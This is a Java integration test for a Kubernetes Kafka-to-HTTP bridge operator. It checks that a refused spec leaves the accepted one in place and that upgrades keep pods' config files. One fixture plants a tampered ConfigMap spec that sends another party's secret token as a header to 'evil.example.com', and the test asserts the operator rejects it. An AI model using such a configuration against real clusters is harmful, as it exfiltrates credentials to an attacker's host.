package dev.kafkaapibridge.operator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.kafkaapibridge.operator.cluster.ControlPlane;
import dev.kafkaapibridge.operator.cluster.FakeKubelet;
import io.fabric8.kubernetes.api.model.Pod;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * While a newer spec is refused the accepted one is served, out of a ConfigMap that others may
 * write: what comes of that.
 */
@Tag("turn-3") // 115 s
class FormerSpecIT {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String NAMESPACE = "former";

  /** Sound, and not what anybody with rights to bridges has written. */
  private static final String EVIL =
      """
      kafka: {bootstrapServers: "kafka:9092", topics: [orders]}
      target: {http: {url: "https://evil.example.com", headers: [{name: X-Secret, secretKeyRef: {name: theirs, key: token}}]}}
      workload: {image: evil}
      """;

  private ControlPlane cluster;
  private TestedOperator operator;
  private FakeKubelet kubelet;

  @BeforeEach
  void start() throws Exception {
    cluster = ControlPlane.get();
    operator = TestedOperator.start(cluster, "former-it");
    cluster.kubectl("create", "namespace", NAMESPACE);
    kubelet = new FakeKubelet(cluster.admin(), NAMESPACE, operator.podPort());
  }

  @AfterEach
  void stop() {
    kubelet.close();
    operator.close();
    cluster.kubectl("delete", "namespace", NAMESPACE);
  }

  @Test
  void aDeletedConfigMapIsMadeAnewWhileASpecIsRefused() {
    apply("delivery: {maxInFlight: 5}");
    awaitReady("True");
    apply("observability: {tracing: {otlpEndpoint: 'http://otel:4317'}}");
    awaitReady("False");

    kubectl("delete", "configmap/orders-bridge");
    apply(
        "observability: {tracing: {otlpEndpoint: 'http://otel:4317'}}\n  delivery: {maxInFlight: 6}");

    await()
        .atMost(Duration.ofSeconds(60))
        .untilAsserted(() -> assertThat(accepted()).contains("maxInFlight: 5"));
  }

  @Test
  void whoMayWriteConfigMapsHasNothingOfHisServed() throws Exception {
    apply("delivery: {maxInFlight: 5}");
    awaitReady("True");
    apply("observability: {tracing: {otlpEndpoint: 'http://otel:4317'}}");
    awaitReady("False");
    String deployment = kubectl("get", "deployment/orders-bridge", "-o", "jsonpath={.spec}");

    write(EVIL);
    await()
        .atMost(Duration.ofSeconds(30))
        .untilAsserted(() -> assertThat(accepted()).as("put back").contains("maxInFlight: 5"));
    operator.restart(() -> write(EVIL));
    apply(
        "observability: {tracing: {otlpEndpoint: 'http://otel:4317'}}\n  delivery: {maxInFlight: 6}");

    await()
        .atMost(Duration.ofSeconds(60))
        .untilAsserted(() -> assertThat(observed()).isEqualTo(generation()));
    assertThat(kubectl("get", "deployment/orders-bridge", "-o", "jsonpath={.spec}"))
        .isEqualTo(deployment);
    assertThat(ready("message"))
        .contains(
            "spec.observability.tracing", "neither scaled nor put back: ConfigMap 'orders-bridge'");

    apply("delivery: {maxInFlight: 7}");
    awaitReady("True");
    assertThat(accepted()).contains("maxInFlight: 7").doesNotContain("evil");
  }

  /** One rollout is due, since the pods' volume is another. */
  @Test
  void podsOfAnOlderOperatorKeepTheirFileThroughTheUpgrade() throws Exception {
    apply("delivery: {maxInFlight: 5}");
    awaitReady("True");
    String since = ready("lastTransitionTime");
    kubelet.fate(pod -> mountsAllFiles(pod) ? FakeKubelet.ready() : null);

    var file = new AtomicReference<String>();
    var older = new AtomicReference<String>();
    operator.restart(() -> {
      asAnOlderOperatorLeftIt();
      file.set(file("bridge\\.yaml"));
      older.set(pods().getFirst());
    });
    await().atMost(Duration.ofSeconds(60)).until(() -> pods().size() == 2);
    kubectl("delete", "service/orders-bridge");
    await("a later reconcile")
        .atMost(Duration.ofSeconds(60))
        .until(() -> !kubectl("get", "services", "-o", "name").isEmpty());

    assertThat(file("bridge\\.yaml"))
        .as("at most it says by now when the bridge started first")
        .startsWith(file.get())
        .contains("maxInFlight: 5");
    assertThat(accepted()).contains("maxInFlight: 5");
    assertThat(pods()).contains(older.get());
    kubelet.fate(pod -> FakeKubelet.ready());
    await()
        .atMost(Duration.ofSeconds(60))
        .until(() -> !pods().contains(older.get()) && file("bridge\\.yaml").isEmpty());
    awaitReady("True");
    assertThat(kubectl("get", "deployment/orders-bridge", "-o", "jsonpath={.metadata.annotations}"))
        .as("the first, that of the older operator, that of the upgrade")
        .contains("\"deployment.kubernetes.io/revision\":\"3\"");
    assertThat(ready("lastTransitionTime")).as("Ready all the time").isEqualTo(since);
  }

  @Test
  void whileTheRolloutAfterAnUpgradeFailsPodsOfTheOlderOperatorKeepTheirFile() throws Exception {
    apply("delivery: {maxInFlight: 5}");
    awaitReady("True");
    kubelet.fate(pod ->
        "bad".equals(pod.getSpec().getContainers().getFirst().getImage())
            ? FakeKubelet.waiting("ImagePullBackOff", "no such image")
            : FakeKubelet.ready());

    operator.restart(() -> {
      asAnOlderOperatorLeftIt();
      apply("delivery: {maxInFlight: 6}\n  workload: {image: bad}");
    });
    awaitReady("False");

    assertThat(file("bridge\\.yaml")).contains("maxInFlight: 5");
    kubelet.fate(pod -> FakeKubelet.ready());
    awaitReady("True");
    await().atMost(Duration.ofSeconds(60)).until(() -> file("bridge\\.yaml").isEmpty());
  }

  /** To and fro a hundred times: no file, no ReplicaSet and no pod is left of it. */
  @Test
  void aSpecThatIsAcceptedAndRefusedInTurnLeavesNothing() {
    for (int i = 0; i < 50; i++) {
      apply("delivery: {maxInFlight: 5}");
      apply("observability: {tracing: {otlpEndpoint: 'http://otel:4317'}}");
    }
    apply("delivery: {maxInFlight: 5}");

    awaitReady("True");
    assertThat(kubectl("get", "configmap/orders-bridge", "-o", "jsonpath={.data}"))
        .satisfies(data -> assertThat(data.split("\\.yaml\":", -1)).hasSize(3));
    assertThat(kubectl("get", "replicasets", "-o", "name").lines()).hasSize(1);
    assertThat(kubectl("get", "pods", "-o", "name").lines()).hasSize(1);
  }

  /**
   * One file for all pods, a template that mounts it whole, and neither an accepted spec nor its
   * seal; its pods run.
   */
  private void asAnOlderOperatorLeftIt() throws IOException {
    var files = (ObjectNode) JSON.readTree(kubectl("get", "configmap/orders-bridge", "-o", "json"));
    String file =
        files.get("data").properties().stream()
            .filter(entry -> entry.getKey().startsWith("bridge-"))
            .findFirst()
            .orElseThrow()
            .getValue()
            .asText();
    files.set("data", JSON.createObjectNode().put("bridge.yaml", file));
    ((ObjectNode) files.get("metadata")).remove(List.of("resourceVersion", "managedFields", "uid"));
    cluster.apply(
        files.toString(),
        "--server-side",
        "--force-conflicts",
        "--field-manager=kafka-api-bridge-operator");
    kubectl(
        "patch",
        "deployment/orders-bridge",
        "--type=json",
        "-p",
        """
        [{"op": "remove", "path": "/metadata/annotations/kafka-api-bridge.dev~1accepted-spec"},
         {"op": "remove", "path": "/spec/template/spec/volumes/0/configMap/items"}]
        """);
    kubectl("rollout", "status", "deployment/orders-bridge", "--timeout=90s");
    await().atMost(Duration.ofSeconds(60)).until(() -> pods().size() == 1);
    assertThat(kubectl("get", "configmap/orders-bridge", "-o", "jsonpath={.data}"))
        .contains("bridge.yaml")
        .doesNotContain("accepted-spec", "bridge-");
  }

  private static boolean mountsAllFiles(Pod pod) {
    return pod.getSpec().getVolumes().getFirst().getConfigMap().getItems().isEmpty();
  }

  private List<String> pods() {
    return kubectl("get", "pods", "-o", "name").lines().toList();
  }

  private void write(String accepted) throws IOException {
    kubectl(
        "patch",
        "configmap/orders-bridge",
        "--type=merge",
        "-p",
        JSON.writeValueAsString(Map.of("data", Map.of("accepted-spec.yaml", accepted))));
  }

  private String accepted() {
    return file("accepted-spec\\.yaml");
  }

  /** Empty where there is none. */
  private String file(String key) {
    return cluster
        .tryKubectl(
            "-n",
            NAMESPACE,
            "get",
            "configmap/orders-bridge",
            "-o",
            "jsonpath={.data['" + key + "']}")
        .out();
  }

  private void apply(String belowSpec) {
    cluster.apply(
        """
        apiVersion: kafka-api-bridge.dev/v1alpha1
        kind: KafkaApiBridge
        metadata: {name: orders, namespace: former}
        spec:
          kafka: {bootstrapServers: "kafka:9092", topics: [orders]}
          target: {http: {url: "https://crm.example.com/v1/orders"}}
          %s
        """
            .formatted(belowSpec));
  }

  private void awaitReady(String status) {
    await()
        .atMost(Duration.ofSeconds(120))
        .untilAsserted(() -> {
          assertThat(observed()).isEqualTo(generation());
          assertThat(ready("status")).isEqualTo(status);
        });
  }

  private String ready(String field) {
    return kubectl(
        "get",
        "kab/orders",
        "-o",
        "jsonpath={.status.conditions[?(@.type=='Ready')]." + field + "}");
  }

  private String observed() {
    return kubectl("get", "kab/orders", "-o", "jsonpath={.status.observedGeneration}");
  }

  private String generation() {
    return kubectl("get", "kab/orders", "-o", "jsonpath={.metadata.generation}");
  }

  private String kubectl(String... arguments) {
    var all = new ArrayList<>(List.of("-n", NAMESPACE));
    all.addAll(List.of(arguments));
    return cluster.kubectl(all.toArray(String[]::new));
  }
}
